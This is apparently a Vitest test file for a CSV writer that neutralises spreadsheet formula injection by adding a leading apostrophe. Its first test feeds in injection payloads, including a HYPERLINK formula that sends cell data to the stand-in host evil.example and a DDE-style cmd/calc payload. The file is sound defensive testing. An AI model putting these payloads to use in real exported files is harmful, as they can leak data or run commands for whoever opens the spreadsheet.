import { describe, expect, it } from "vitest";
import { csvField, csvText } from "../../src/results/csv-text.ts";

describe("the CSV writer", () => {
  it("writes text a spreadsheet would run as a formula with a leading apostrophe (the probe's override reasons)", () => {
    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    );
    expect(csvField("@SUM(A1:A9)")).toBe("'@SUM(A1:A9)");
    expect(csvField("+1+2")).toBe("'+1+2");
    expect(csvField("-cmd|' /C calc'!A0")).toBe("'-cmd|' /C calc'!A0");
    expect(csvField("\tx")).toBe("'\tx");
    expect(csvField("\rx")).toBe(`"'\rx"`);
  });

  it("keeps numbers numbers, negative ones and numeric text included", () => {
    expect(csvField(-0.0736785)).toBe("-0.0736785");
    expect(csvField(-3)).toBe("-3");
    expect(csvField(12n)).toBe("12");
    expect(csvField("-12.5")).toBe("-12.5");
    expect(csvField("+3e-4")).toBe("+3e-4");
    expect(csvField(null)).toBe("");
    expect(csvField("a,b")).toBe('"a,b"');
  });

  it("writes a header and one line per row", () => {
    expect(csvText([{ a: 1, b: "=x" }])).toBe("a,b\n1,'=x\n");
    expect(csvText([], ["a"])).toBe("a\n");
  });
});
